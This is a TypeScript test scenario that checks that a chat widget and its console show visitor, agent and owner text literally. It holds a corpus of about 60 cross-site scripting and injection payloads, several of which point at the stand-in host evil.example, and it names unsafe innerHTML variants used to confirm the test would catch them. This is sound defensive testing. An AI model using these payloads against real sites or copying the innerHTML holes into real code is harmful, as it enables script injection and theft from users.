import { randomUUID } from 'node:crypto'
import type { ChatStarted, LogPage, Site } from '@papo/protocol'
import type { Page } from 'playwright-core'
import { Agent } from '../../test/rig/agent.ts'
import { Visitor } from '../../test/rig/visitor.ts'
import { ptBR } from '../../test/rig/texts.ts'
import { runConcurrently } from '../../fault-rig/run/concurrently.ts'
import { Workspace, type VisitorSession } from '../../fault-rig/clients/workspace.ts'
import type { RawClient } from '../../fault-rig/clients/raw-client.ts'
import { BrowserClient } from '../../fault-rig/clients/browser-client.ts'
import type { Scenario } from '../../fault-rig/run/scenario.ts'
import { until } from '../../fault-rig/stack/program.ts'
import { SitePage } from '../../fault-rig/stack/site-page.ts'
import { owner } from '../../fault-rig/stack/stack.ts'
import type { FaultRun } from '../../fault-rig/run/fault-run.ts'

/** A page that has not shown the text by then never will. */
const readWithinMs = 10_000
const run = 'window.__pwned=1'

/**
 * Payloads that run where a text is treated as HTML, a script, an address or a template. At most 80
 * characters, for names.
 */
const corpus = [
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><img src=x onerror=${run}>`,
  `</textarea><svg/onload=${run}>`,
  `</title><img src onerror=${run}>`,
  `</script><script>${run}</script>`,
  `</style><svg onload=${run}>`,
  `--><img src=x onerror=${run}>`,
  `]]><img src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>">`,
  `<iframe src="javascript:parent.__pwned=1">`,
  `<object data="javascript:${run}">`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}">clique</a>`,
  `<math><mi xlink:href="javascript:${run}">x</math>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<form action=//evil.example><button autofocus>x`,
  `<template><img src=x onerror=${run}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<svg><animate onbegin=${run} attributeName=x>`,
  `<svg><script href="data:,${run}"/></svg>`,
  `<<img src=x onerror=${run}//>`,
  `<img/src/onerror=${run}>`,
  `<IMG SRC=x OnErRoR=${run}>`,
  `\u003cimg src=x onerror=${run}\u003e`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `%3Cimg%20src=x%20onerror=${run}%3E`,
  String.raw`\x3cimg src=x onerror=${run}\x3e`,
  `javascript:${run}`,
  `javascript:/*--></title></style>*/${run}`,
  `data:text/html,<script>opener.__pwned=1</script>`,
  `vbscript:${run}`,
  `[clique](javascript:${run})`,
  `![x](x"onerror="${run})`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `" autofocus onfocus="${run}`,
  `' onmouseover='${run}`,
  `\`-(${run})-\``,
  `=HYPERLINK("//evil.example","x")`,
  `@import url(//evil.example/x.css)`,
  `expression(${run})`,
  `＜img src=x onerror=${run}＞`,
  `<img src=x\u200b onerror=${run}>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<x onclick=${run} tabindex=1 id=x>`,
]

export const scriptInjection: Scenario = {
  code: 'B1',
  name: 'script-injection',
  what: 'Everything that a visitor, an agent or an owner writes is shown literally.',
  stacks: ['cluster', 'embedded'],
  protection: [
    {
      what: 'the widget shows a message as a text',
      without: {
        at: 'widget-text',
        as: '$it ref={(node: HTMLElement | null) => { if (node) node.innerHTML = text }}',
      },
    },
    {
      what: 'the console shows a visitor’s name as a text',
      without: {
        at: 'console-name',
        as: '$it ref={(node: HTMLElement | null) => { if (node) node.innerHTML = name }}',
      },
    },
  ],
  limitSeconds: 600,
  async run(faultRun) {
    const texts = faultRun.pick({
      brief: corpus.slice(0, 6),
      usual: corpus.slice(0, 45),
      full: corpus,
    })
    const client = faultRun.client()
    const ours = await Workspace.of(client, 'ours', owner)
    const sitePage = await SitePage.open(faultRun.url, () => ours.site.key)
    faultRun.atEnd(() => sitePage.close())
    const browserClient = await BrowserClient.open()
    faultRun.atEnd(() => browserClient.leave())
    const show = { faultRun, client, ours, sitePage, browserClient, texts }
    await furnish(show)
    faultRun.progress('planting')
    const seeded = await seed(show)
    faultRun.progress('the widget')
    await inTheWidget(show)
    faultRun.progress('the console')
    await inTheConsole(show, seeded)
    await browserClient.requireNoScript()
    faultRun.progress('pages')
    const pages = await inNoPage(faultRun, client, texts)
    return { strings: texts.length, chats: seeded.length, pages, ran: 0, dialogs: 0 }
  },
}

interface Show {
  faultRun: FaultRun
  client: RawClient
  ours: Workspace
  sitePage: SitePage
  browserClient: BrowserClient
  texts: readonly string[]
}

const patch = (show: Show, path: string, body: object) =>
  show.client.ask('PATCH', path, { token: show.ours.owner.token, body })

/** The site allows the shop's origin, asks for a name, and shows texts of its owner. */
async function furnish(show: Show): Promise<void> {
  const { ours, sitePage, texts } = show
  await patch(show, `/v1/sites/${ours.site.id}`, {
    allowedOrigins: [...ours.site.allowedOrigins, sitePage.url],
    form: { name: 'required', email: 'off', question: 'required' },
    texts: { title: texts[0]?.slice(0, 60), greeting: texts[1] },
  })
  for (const [at, name] of texts.entries()) {
    if (at % 6 === 0) await ours.addSite(name)
  }
}

/**
 * A waiting chat for each payload, with the payload in every field that a visitor or the browser
 * fills.
 */
async function seed({ ours, texts, client }: Show): Promise<VisitorSession[]> {
  const guests: VisitorSession[] = []
  for (const text of texts) {
    const clientId = randomUUID()
    const started = await client.ask<ChatStarted>('POST', '/v1/chats', {
      headers: { 'user-agent': ascii(text), 'x-forwarded-for': ascii(text), referer: ascii(text) },
      body: {
        siteKey: ours.site.key,
        clientId,
        visitor: {
          name: text,
          email: "x'onload='x=`1`{{7*7}}@evil.example",
          attributes: { [text.slice(0, 64)]: text },
        },
        message: { clientId: randomUUID(), text },
        page: {
          url: `https://shop.example/${encodeURI(text)}?q=${encodeURIComponent(text)}`,
          title: text,
          referrer: `https://evil.example/${encodeURI(text)}`,
        },
      },
    })
    const { sessionId: chatId, visitorToken: token, chat } = started
    guests.push({ chatId, token, clientId, visitorId: chat.visitor.id })
  }
  return guests
}

/** Header values are Latin-1. */
const ascii = (text: string): string => text.replaceAll(/[^\x20-\x7e]/g, '?')

/** A visitor types some of the payloads and reads all of them from agents of every name. */
async function inTheWidget(show: Show): Promise<void> {
  const { browserClient, sitePage, ours, client, texts, faultRun } = show
  const page = await browserClient.page()
  const visitor = new Visitor(page, ptBR)
  const [first = '', second = '', third = ''] = texts
  await page.goto(
    `${sitePage.url}/${encodeURIComponent(first)}?a=${encodeURIComponent(first)}#${first}`,
  )
  await page.evaluate((title) => (document.title = title), first)
  await visitor.openPanel()
  await shows(page, [first.slice(0, 60), second])
  await visitor.button(ptBR.start).click()
  await page.locator('papo-chat input[name=name]').fill(first)
  await page.locator('papo-chat textarea[name=question]').fill(second)
  await visitor.button(ptBR.start).click()
  await visitor.reads(ptBR.waiting)
  await visitor.say(third)
  const { chatId, visitorToken } = await sessionOf(page, ours.site)
  const path = `/v1/chats/${chatId}`
  // The messages of the agents follow it.
  await faultRun.until('the text is stored', async () => {
    const log = await client.ask<LogPage>('GET', `${path}/messages`, { token: visitorToken })
    return log.messages.some(({ text }) => text === third)
  })
  await client.ask('POST', `${path}/accept`, { token: ours.agent.token })
  for (const text of texts) {
    await patch(show, `/v1/agents/${ours.agent.id}`, { name: text })
    for (const token of [visitorToken, ours.agent.token]) {
      const body = { clientId: randomUUID(), text }
      await client.ask('POST', `${path}/messages`, { token, body })
    }
  }
  const wanted = [second, third, ...texts.flatMap((text) => [text, text])]
  await faultRun.until(
    'the widget shows every message',
    async () => (await visitor.messages()).length >= wanted.length,
  )
  requireSame(await visitor.messages(), wanted)
  await shows(page, texts)
  await browserClient.requireNoScript()
}

async function sessionOf(
  page: Page,
  { key }: Pick<Site, 'key'>,
): Promise<{ chatId: string; visitorToken: string }> {
  const session = await page.evaluate((name) => localStorage.getItem(name), `papo.session.${key}`)
  return JSON.parse(session ?? '{}') as { chatId: string; visitorToken: string }
}

/** The queue, each chat with its visitor details, the search, the feedback, and the sites. */
async function inTheConsole(show: Show, seeded: readonly VisitorSession[]): Promise<void> {
  const { faultRun, browserClient, ours, texts, client } = show
  const page = await browserClient.page()
  const agent = new Agent(page, ptBR)
  const console = `${faultRun.url}/console/`
  await agent.signIn(console, ours.owner)
  await page
    .locator('.row')
    .nth(Math.min(seeded.length, 50) - 1)
    .waitFor()
  await shows(page, texts.slice(0, 50))
  for (const [at, { chatId }] of seeded.entries()) {
    const text = texts[at] ?? ''
    await page.goto(`${console}#/queue/${chatId}`)
    const details = page.locator(`.details:has-text("${chatId}")`)
    await details.waitFor()
    await page.locator('.chat p.bubble').first().waitFor()
    requireSame(await agent.messages(), [text])
    await shows(page, [text])
    const shownDetails = await details.innerText()
    // Name, title, and the attribute's name and value.
    if (shownDetails.split(flat(text.slice(0, 64))).length < 4) {
      throw new Error(`the console shows ${text} beside the chat as ${shownDetails}`)
    }
  }
  faultRun.progress('the settings')
  await page.goto(`${console}#/settings/sites`)
  await shows(
    page,
    texts.filter((_, at) => at % 6 === 0),
  )
  await page.goto(`${console}#/settings/sites/${ours.site.id}`)
  await page.getByText(ours.site.key).first().waitFor()
  await page.goto(`${console}#/settings/people`)
  await shows(page, texts.slice(-1))
  faultRun.progress('the history')
  await runConcurrently([...seeded.entries()], async ([at, visitorSession]) => {
    const { chatId, token } = visitorSession
    await ours.end(visitorSession)
    const body = { rating: 1, feedback: texts[at] }
    await client.ask('PUT', `/v1/chats/${chatId}/rating`, { token, body })
  })
  for (const text of texts.filter((_, at) => at % 5 === 0)) {
    await page.goto(`${console}#/history?${new URLSearchParams({ text })}`)
    await page.locator('q.row-feedback', { hasText: text }).first().waitFor()
    await shows(page, [text])
  }
}

/** White space collapses as on a page. */
const flat = (text: string): string => text.replaceAll(/\s+/g, ' ').trim()

/** Each text must appear on the page literally. */
async function shows(page: Page, texts: readonly string[]): Promise<void> {
  const shown = async () => flat(await page.evaluate(allText))
  for (const text of texts.map(flat)) {
    const isThere = async () => (await shown()).includes(text)
    await until(`${text} can be read on ${page.url().slice(0, 60)}`, isThere, readWithinMs)
  }
}

/** Runs in the browser. */
function allText(): string {
  const widget = document.querySelector('papo-chat')?.shadowRoot
  const parts = [document.body, ...(widget ? [widget] : [])]
  return parts.map((part) => part.textContent).join('\n')
}

function requireSame(shown: readonly string[], wanted: readonly string[]): void {
  const at = wanted.findIndex((text, index) => flat(shown[index] ?? '') !== flat(text))
  if (at >= 0) throw new Error(`${wanted[at]} is shown as ${shown[at]}`)
}

/** No page of ours repeats its address, except as a text in JSON. */
async function inNoPage(
  faultRun: FaultRun,
  client: RawClient,
  texts: readonly string[],
): Promise<number> {
  const { key } = await faultRun.site()
  const places = [
    (text: string) => `/${text}`,
    (text: string) => `/console/${text}`,
    (text: string) => `/papo/${text}`,
    (text: string) => `/demo?x=${text}`,
    (text: string) => `/docs?x=${text}`,
    (text: string) => `/v1/chats/${text}`,
    (text: string) => `/v1/widget/${key}?${text}=${text}`,
    (text: string) => `/v1/widget/${text}`,
  ]
  const asked = texts.flatMap((text) => places.map((place) => ({ text, place })))
  await runConcurrently(asked, async ({ text, place }) => {
    const path = place(encodeURIComponent(text))
    const { headers, text: body } = await client.call('GET', path)
    const isPage = !String(headers['content-type']).includes('json')
    if (isPage && text.includes('<') && body.includes(text)) throw new Error(`${path} says ${text}`)
    if (headers['x-content-type-options'] !== 'nosniff') throw new Error(`${path} can be sniffed`)
  })
  return asked.length
}
